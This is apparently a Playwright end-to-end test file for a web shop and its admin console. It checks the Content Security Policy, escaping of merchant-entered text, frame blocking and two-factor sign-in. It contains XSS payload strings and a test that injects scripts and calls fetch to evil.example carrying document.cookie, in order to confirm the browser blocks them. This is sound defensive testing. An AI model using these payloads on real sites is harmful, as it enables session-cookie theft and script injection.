"""What the browser itself refuses for us, and the second step at sign-in, as people meet them."""

from contextlib import asynccontextmanager

import pytest
from playwright.async_api import expect

from tests.journeys.browser import PHONE, visitor
from tests.journeys.people import ZH, settled, signed_in_desk, tap, walk
from tests.journeys.test_every_page import PAGES, SHOP
from tests.people.staff.authenticator import Authenticator

pytestmark = pytest.mark.journey
NOTE = "addEventListener('securitypolicyviolation', e => (window.__refused ||= []).push(`${e.effectiveDirective} ${e.blockedURI}`))"
HOSTILE = '<script>window.__ran = 1</script><img src=x onerror="window.__ran = 1">"\'><svg onload=window.__ran=1>'


@asynccontextmanager
async def on_their_own(browser, known=None):
    """A page on which refusals of the browser are expected, and so not taken for mistakes."""
    context = await browser.new_context(storage_state=known, locale="zh-CN")
    await context.add_init_script(NOTE)
    try:
        yield await context.new_page()
    finally:
        await context.close()


async def refused(page):
    return await page.evaluate("() => window.__refused || []")


async def test_no_page_of_the_console_asks_for_what_its_policy_forbids(house, desk):
    await desk.context.add_init_script(NOTE)
    await desk.goto(house.console)
    some = {}
    for kind in ("customers", "products", "orders"):
        answer = await desk.request.get(f"{house.console}/api/console/{kind}")
        some[kind] = (await answer.json())["items"][0]["id"]
    for path in PAGES:
        await walk(desk, path.format(**some))
        assert await refused(desk) == [], path


async def test_no_page_of_the_shop_asks_for_what_its_policy_forbids(house, browser):
    async with visitor(browser, size=PHONE) as phone:
        await phone.context.add_init_script(NOTE)
        await phone.goto(house.shop)
        await tap(phone, ZH["agree"])
        for path in SHOP:
            await phone.goto(house.shop + path)
            await settled(phone)
            assert await refused(phone) == [], path


async def test_a_script_in_a_merchants_text_is_text_in_shop_and_console(house, desk, browser):
    token = (await (await desk.request.get(f"{house.console}/api/console/session")).json())["csrf_token"]  # fmt: skip
    head = {"X-CSRF-Token": token}
    body = {
        "handle": "hostile-text", "title": {"zh-CN": HOSTILE[:100]}, "subtitle": {"zh-CN": HOSTILE[:100]}, "description_html": {"zh-CN": f"<p>茶</p>{HOSTILE}"},
        "status": "on_sale", "skus": [{"code": "HOSTILE-1", "option_values": [], "price_minor": 100}],
    }  # fmt: skip
    made = await desk.request.post(f"{house.console}/api/console/products", data=body, headers=head)
    if made.status in (400, 422):  # what the house refuses is only the description
        body["description_html"] = {"zh-CN": "<p>茶</p>"}
        made = await desk.request.post(
            f"{house.console}/api/console/products", data=body, headers=head
        )
    assert made.status == 201, await made.text()
    product = await made.json()
    try:
        for path in (
            f"/products/{product['id']}",
            "/products?q=script",
            "/stock?q=HOSTILE",
            "/audit",
        ):
            await walk(desk, path)
            assert await desk.evaluate("() => window.__ran") is None, path
        await walk(desk, f"/products/{product['id']}")
        assert "<script>" in await desk.locator("input").first.input_value()
        async with visitor(browser, size=PHONE) as phone:
            await phone.goto(house.shop)
            await tap(phone, ZH["agree"])
            for path in ("/pages/product/index?id=hostile-text", "/pages/search/index?q=script"):
                await phone.goto(house.shop + path)
                await settled(phone)
                await expect(phone.locator("body")).to_contain_text("<script>window.__ran")
                assert await phone.evaluate("() => window.__ran") is None, path
    finally:
        gone = await desk.request.post(
            f"{house.console}/api/console/products/bulk",
            data={"ids": [product["id"]], "action": "off"}, headers=head,
        )  # fmt: skip
        assert gone.ok, await gone.text()


async def test_a_script_that_got_into_a_page_does_not_run(house, browser, owner):
    for where, known in ((house.console, owner), (house.shop, None)):
        async with on_their_own(browser, known) as page:
            await page.goto(where)
            await settled(page)
            await page.evaluate(
                """() => {
                    const inline = document.createElement('script')
                    inline.textContent = 'window.__ran = 1'
                    const picture = document.createElement('div')
                    picture.innerHTML = '<img src="data:," onerror="window.__ran = 2"><a href="javascript:window.__ran = 3" id="bad">x</a>'
                    const foreign = document.createElement('script')
                    foreign.src = 'https://evil.example/x.js'
                    document.body.append(inline, picture, foreign)
                    document.getElementById('bad').click()
                    fetch('https://evil.example/take?' + document.cookie).catch(() => undefined)
                    new Image().src = 'https://evil.example/take.gif'
                }"""
            )
            await page.wait_for_function("() => (window.__refused || []).length >= 5")
            assert await page.evaluate("() => window.__ran") is None, where
            said = " ".join(await refused(page))
            for rule in ("script-src-elem inline", "script-src-attr inline", "script-src-elem https://evil.example", "connect-src", "img-src"):  # fmt: skip
                assert rule in said, (rule, said)


async def test_another_site_cannot_put_us_into_a_frame(house, browser, owner):
    for where in (house.console, house.shop):
        async with on_their_own(browser, owner) as page:
            await page.set_content(f'<h1>evil</h1><iframe src="{where}" width=600 height=400></iframe>')  # fmt: skip
            await page.wait_for_timeout(1_500)
            frame = page.frames[1]
            assert await frame.locator("#app, uni-app, form, nav").count() == 0, where
            assert frame.url.startswith("chrome-error:"), frame.url


async def test_somebody_sets_up_a_second_step_and_signs_in_with_it(house, browser):
    house_of = type(house)(house.console, house.shop, "warehouse@lanyu", house.password, house.home)
    async with visitor(browser) as page:
        await signed_in_desk(page, house_of)
        await walk(page, "/me")
        await page.get_by_role("button", name="设置第二步验证").click()
        await page.locator("#step-begin input").fill(house.password)
        await page.get_by_role("button", name="下一步").click()
        spelled = (await page.locator("#step-confirm .secret").inner_text()).replace(" ", "")
        await expect(page.locator("#step-confirm canvas, #step-confirm svg, #step-confirm img").first).to_be_visible()  # fmt: skip
        phone = Authenticator(f"otpauth://totp/x?issuer=x&secret={spelled}")
        await page.locator("#step-confirm input").fill(phone.code())
        await page.get_by_role("button", name="打开", exact=True).click()
        await expect(page.locator(".codes li")).to_have_count(10)
        spare = await page.locator(".codes li").first.inner_text()
        await page.get_by_role("button", name="收好了").click()
        await expect(page.get_by_label("第二步验证").get_by_text("已打开")).to_be_visible()
        for code in (phone.code(1), spare):
            await _sign_in_elsewhere(browser, house_of, code)
        await walk(page, "/orders")
        await walk(page, "/me")
        await page.get_by_role("button", name="关掉第二步验证").click()
        await page.locator("#step-code input").fill("000000")
        await page.locator(".sheet-foot").get_by_role("button").click()
        await expect(page.get_by_text("验证码不对")).to_be_visible()


async def _sign_in_elsewhere(browser, house, code):
    async with visitor(browser, size=PHONE) as page:
        await page.goto(house.console)
        await page.locator("input").nth(0).fill(house.login)
        await page.locator("input[type=password]").fill(house.password)
        await page.keyboard.press("Enter")
        await expect(page.get_by_text("还差一步")).to_be_visible()
        await page.locator("input[name=code]").fill(code)
        await page.keyboard.press("Enter")
        await expect(page.locator("#page")).to_be_visible()
